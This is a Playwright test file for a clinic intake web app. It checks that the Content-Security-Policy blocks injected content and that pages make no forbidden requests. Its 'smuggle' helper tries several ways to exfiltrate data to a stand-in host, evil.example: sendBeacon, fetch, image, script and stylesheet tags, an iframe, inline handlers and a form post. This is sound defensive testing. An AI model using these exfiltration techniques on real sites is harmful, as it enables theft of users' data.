/** What a page sends, and to whom; for a whole intake and its review see `intake.browser.ts`. */
import { mainLink, queueRows } from '@clinic/testing/browser/queue';
import { authenticate } from '@clinic/testing/browser/staff';
import { expect, test } from '@clinic/testing/browser/test';

test.use({ serviceWorkers: 'allow' });

test('injected content of a page sends nothing to others', async ({ page }) => {
  const reached: string[] = [];
  await page.context().route('https://evil.example/**', (route) => {
    reached.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  await page.goto('/intake');
  await expect(page.getByRole('button', { name: 'Start' })).toBeVisible();
  const { blocked, ran } = await page.evaluate(smuggle);
  expect(new Set(blocked)).toEqual(
    new Set([
      'connect-src',
      'img-src',
      'script-src-elem',
      'script-src-attr',
      'style-src-elem',
      'form-action',
      'frame-src',
    ]),
  );
  expect(reached).toEqual([]);
  expect(ran).toBe(false);
});

test('no page requests anything that its own Content-Security-Policy forbids', { tag: '@ci' }, async ({
  page,
}) => {
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      document.documentElement.dataset.forbidden = `${violatedDirective} ${blockedURI}`;
    });
  });
  const expectNothingForbidden = async (path: string, name: string | RegExp): Promise<void> => {
    await page.goto(path);
    await expect(page.getByRole('button', { name }).first()).toBeVisible();
    await page.evaluate(() => new Promise((done) => requestIdleCallback(done)));
    await expect(page.locator('html'), path).not.toHaveAttribute('data-forbidden');
  };
  await expectNothingForbidden('/', 'Sign In');
  await expectNothingForbidden('/intake/weight-loss-intake', 'Start');
  await page.getByRole('button', { name: 'Start', exact: true }).click();
  await page.getByRole('button', { name: 'Continue', exact: true }).click();
  await expect(page.getByRole('alert').first()).toBeVisible();
  await expect(page.locator('html')).not.toHaveAttribute('data-forbidden');
  await expectNothingForbidden('/sign-in', 'Send Magic Link');
  await authenticate(page, 'physician');
  await expectNothingForbidden('/physician', 'Export Data');
  await expect(mainLink(queueRows(page).first())).toBeVisible();
  await expect(page.locator('html')).not.toHaveAttribute('data-forbidden');
});

/** Runs in the page: tries every way to send data out. Resolves to the CSP directives that blocked them. */
async function smuggle(): Promise<{ blocked: string[]; ran: boolean }> {
  const blocked: string[] = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
    blocked.push(effectiveDirective);
  });
  const evil = 'https://evil.example/?stolen=1';
  const add = <Name extends keyof HTMLElementTagNameMap>(
    name: Name,
    properties: Partial<HTMLElementTagNameMap[Name]>,
  ) => document.body.append(Object.assign(document.createElement(name), properties));
  navigator.sendBeacon(evil, 'answers');
  await fetch(evil).catch(() => undefined);
  add('img', { src: evil });
  add('script', { src: evil });
  add('script', { text: 'document.documentElement.dataset.ran = "1"' });
  add('link', { rel: 'stylesheet', href: evil });
  add('iframe', { src: evil });
  const button = document.createElement('button');
  button.setAttribute('onclick', 'document.documentElement.dataset.ran = "1"');
  button.click();
  const form = Object.assign(document.createElement('form'), { action: evil, method: 'post' });
  document.body.append(form);
  form.submit();
  // Violations are reported in separate tasks.
  const enough = () => new Set(blocked).size >= 7;
  for (let turn = 0; turn < 500 && !enough(); turn += 1) {
    await new Promise((resolve) => requestAnimationFrame(resolve));
  }
  return { blocked, ran: document.documentElement.dataset.ran !== undefined };
}
